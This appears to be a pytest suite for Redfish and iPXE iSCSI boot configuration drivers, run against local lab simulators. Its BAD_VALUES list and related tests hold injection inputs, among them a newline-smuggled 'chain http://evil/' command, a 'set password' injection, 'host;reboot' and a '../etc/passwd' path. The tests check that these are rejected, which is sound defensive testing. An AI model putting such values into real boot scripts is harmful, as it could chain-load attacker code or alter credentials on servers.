"""Contract suite for ``BootConfig``: Redfish iSCSIBoot (RedfishLab) and iPXE + IPMI (IpmiLab)."""

from __future__ import annotations

import dataclasses
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

from aimctl.drivers.ipmi import IpmiPower
from aimctl.drivers.ipxe import IpxeBootConfig
from aimctl.drivers.protocols import BootConfig, IscsiBoot
from aimctl.drivers.redfish_boot import RedfishBootConfig
from aimctl.errors import AuthFailed, Rejected, StateMismatch, Unreachable
from lab.bmc.ipmi import IpmiLab, IpmiSystemSpec
from lab.bmc.redfish import RedfishLab, RedfishSystemSpec

pytestmark = pytest.mark.lab

USER, PASSWORD = "admin", "lab-pass-7d41"
CHAP_SECRET = "Zq9-chap-secret-41f0"
BOOT = IscsiBoot(
    initiator="iqn.1991-05.com.microsoft:exchange1",
    target="iqn.2026-01.lab.storage:exchange1-boot",
    lun=1,
    portal_host="127.0.0.1",
    portal_port=3260,
    chap_user="exchange1",
    chap_secret=CHAP_SECRET,
)
BAD_VALUES = [
    {"initiator": "iqn.1991-05.com.microsoft:Exchange 1"},
    {"initiator": "iqn.1991-05.com.microsoft:x\nchain http://evil/"},
    {"target": "not-an-iqn"},
    {"chap_secret": "secret with spaces"},
    {"chap_secret": "${evil}"},
    {"chap_user": "user\nset password x"},
    {"lun": -1},
    {"portal_port": 70000},
]


@pytest.fixture
def redfish(tmp_path: Path) -> Iterator[RedfishLab]:
    lab = RedfishLab([RedfishSystemSpec("s1", power_on=False)], tmp_path, {USER: PASSWORD}, power_delay_s=0.2)
    lab.start()
    yield lab
    lab.stop()


def _redfish_config(lab: RedfishLab, **kw: Any) -> RedfishBootConfig:
    kw.setdefault("password", PASSWORD)
    return RedfishBootConfig(lab.base_url, lab.system_path("s1"), USER, kw.pop("password"), name="s1", **kw)


@pytest.mark.parametrize("vendor", ["generic", "dell_idrac"])
def test_redfish_write_read_clear_round_trip(redfish: RedfishLab, vendor: str) -> None:
    cfg = _redfish_config(redfish, vendor=vendor)
    assert isinstance(cfg, BootConfig)
    assert cfg.nic_path == redfish.nic_function_path("s1")  # Dell layout, derived from the system id
    cfg.write(BOOT)
    firmware = redfish.iscsi_boot("s1")  # what the lab's host simulator will boot with
    assert firmware is not None
    assert firmware["InitiatorName"] == BOOT.initiator
    assert firmware["PrimaryTargetName"] == BOOT.target
    assert (firmware["PrimaryTargetIPAddress"], firmware["PrimaryTargetTCPPort"]) == ("127.0.0.1", 3260)
    assert firmware["PrimaryLUN"] == 1
    assert (firmware["AuthenticationMethod"], firmware["CHAPUsername"]) == ("CHAP", "exchange1")
    assert firmware["CHAPSecret"] == CHAP_SECRET
    assert redfish.boot_override("s1") == "UefiTarget"
    # CHAPSecret is write-only over Redfish: read() has everything else
    assert cfg.read() == dataclasses.replace(BOOT, chap_secret="")
    raw = requests.get(redfish.base_url + redfish.nic_function_path("s1"), auth=(USER, PASSWORD), timeout=5).json()
    assert raw["iSCSIBoot"]["CHAPSecret"] is None

    cfg.clear()
    assert redfish.iscsi_boot("s1") is None
    assert cfg.read() is None
    assert redfish.boot_override("s1") == "None"


def test_redfish_write_is_idempotent_and_overwrites(redfish: RedfishLab) -> None:
    cfg = _redfish_config(redfish)
    cfg.write(BOOT)
    cfg.write(BOOT)
    other = dataclasses.replace(BOOT, initiator="iqn.1991-05.com.microsoft:exchange2", chap_user="", chap_secret="")
    cfg.write(other)
    firmware = redfish.iscsi_boot("s1")
    assert firmware is not None and firmware["InitiatorName"] == other.initiator
    assert firmware["AuthenticationMethod"] == "None" and not firmware["CHAPSecret"]


def test_redfish_read_back_catches_a_bmc_that_drops_a_field(
    redfish: RedfishLab, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_patch = redfish.iscsi.patch

    def forgetful(uuid: str, changes: dict[str, Any]) -> str | None:
        return real_patch(uuid, {k: v for k, v in changes.items() if k != "PrimaryLUN"})

    monkeypatch.setattr(redfish.iscsi, "patch", forgetful)
    with pytest.raises(StateMismatch) as exc:
        _redfish_config(redfish).write(dataclasses.replace(BOOT, lun=7))
    assert "PrimaryLUN" in str(exc.value)
    assert CHAP_SECRET not in str(exc.value)


def test_redfish_errors(redfish: RedfishLab) -> None:
    with pytest.raises(AuthFailed):
        _redfish_config(redfish, password="wrong-password").write(BOOT)
    redfish.set_fault("s1", "down", True)
    with pytest.raises(Unreachable):
        _redfish_config(redfish).read()
    assert redfish.iscsi_boot("s1") is None


@pytest.mark.parametrize("bad", BAD_VALUES)
def test_redfish_invalid_value_refused_before_any_request(bad: dict[str, Any]) -> None:
    # port 9 on 127.0.0.1 has no listener: any request would raise Unreachable, not Rejected
    cfg = RedfishBootConfig("http://127.0.0.1:9", "/redfish/v1/Systems/x", USER, PASSWORD, name="s1")
    with pytest.raises(Rejected) as exc:
        cfg.write(dataclasses.replace(BOOT, **bad))
    assert "before any request" in str(exc.value)


def test_redfish_refuses_a_hostname_portal() -> None:
    cfg = RedfishBootConfig("http://127.0.0.1:9", "/redfish/v1/Systems/x", USER, PASSWORD, name="s1")
    with pytest.raises(Rejected):
        cfg.write(dataclasses.replace(BOOT, portal_host="storage.lab"))


def test_unknown_vendor_is_refused() -> None:
    with pytest.raises(Rejected):
        RedfishBootConfig("http://127.0.0.1:9", "x", USER, PASSWORD, vendor="acme")


# --- iPXE + IPMI ------------------------------------------------------------------------------


@pytest.fixture
def ipmi() -> Iterator[tuple[IpmiLab, IpmiPower]]:
    lab = IpmiLab([IpmiSystemSpec("s1", power_on=False)], {USER: PASSWORD}, power_delay_s=0.2)
    ports = lab.start()
    power = IpmiPower("127.0.0.1", ports["s1"], USER, PASSWORD, timeout_s=2.0, name="s1")
    yield lab, power
    power.close()
    lab.stop()


def test_ipxe_write_read_clear_round_trip(ipmi: tuple[IpmiLab, IpmiPower], tmp_path: Path) -> None:
    lab, power = ipmi
    cfg = IpxeBootConfig("s1", tmp_path / "boot", power)
    assert isinstance(cfg, BootConfig)
    cfg.write(BOOT)
    script = tmp_path / "boot" / "s1.ipxe"
    text = script.read_text()
    assert text.startswith("#!ipxe\n")
    assert f"set initiator-iqn {BOOT.initiator}\n" in text
    assert "set username exchange1\n" in text and f"set password {CHAP_SECRET}\n" in text
    assert f"sanboot iscsi:127.0.0.1::3260:1:{BOOT.target}\n" in text
    assert stat.S_IMODE(script.stat().st_mode) == 0o600
    assert lab.boot_device("s1") == "network"
    assert cfg.read() == BOOT
    assert list((tmp_path / "boot").iterdir()) == [script]  # no temp files left behind

    cfg.clear()
    assert not script.exists()
    assert cfg.read() is None
    cfg.clear()  # idempotent


def test_ipxe_lun_is_hex_and_ipv6_is_bracketed(ipmi: tuple[IpmiLab, IpmiPower], tmp_path: Path) -> None:
    _, power = ipmi
    cfg = IpxeBootConfig("s1", tmp_path, power)
    boot = dataclasses.replace(BOOT, lun=12, portal_host="fd00::10", chap_user="", chap_secret="")
    cfg.write(boot)
    text = (tmp_path / "s1.ipxe").read_text()
    assert f"sanboot iscsi:[fd00::10]::3260:c:{BOOT.target}\n" in text
    assert "username" not in text and "password" not in text
    assert cfg.read() == boot


@pytest.mark.parametrize("bad", BAD_VALUES + [{"portal_host": "host;reboot"}])
def test_ipxe_invalid_value_refused_before_anything(
    ipmi: tuple[IpmiLab, IpmiPower], tmp_path: Path, bad: dict[str, Any]
) -> None:
    lab, power = ipmi
    cfg = IpxeBootConfig("s1", tmp_path, power)
    with pytest.raises(Rejected):
        cfg.write(dataclasses.replace(BOOT, **bad))
    assert list(tmp_path.iterdir()) == []
    assert lab.boot_device("s1") == "default"


def test_ipxe_refuses_a_path_as_server_name(ipmi: tuple[IpmiLab, IpmiPower], tmp_path: Path) -> None:
    with pytest.raises(Rejected):
        IpxeBootConfig("../etc/passwd", tmp_path, ipmi[1])


def test_ipxe_bmc_down_leaves_the_script_but_reports(ipmi: tuple[IpmiLab, IpmiPower], tmp_path: Path) -> None:
    lab, _ = ipmi
    power = IpmiPower("127.0.0.1", lab.port("s1"), USER, PASSWORD, timeout_s=0.5, name="s1")
    lab.set_fault("s1", "down", True)
    cfg = IpxeBootConfig("s1", tmp_path, power)
    with pytest.raises(Unreachable):
        cfg.write(BOOT)
    cfg.clear()  # needs no BMC: the controller serves the script itself
    assert cfg.read() is None
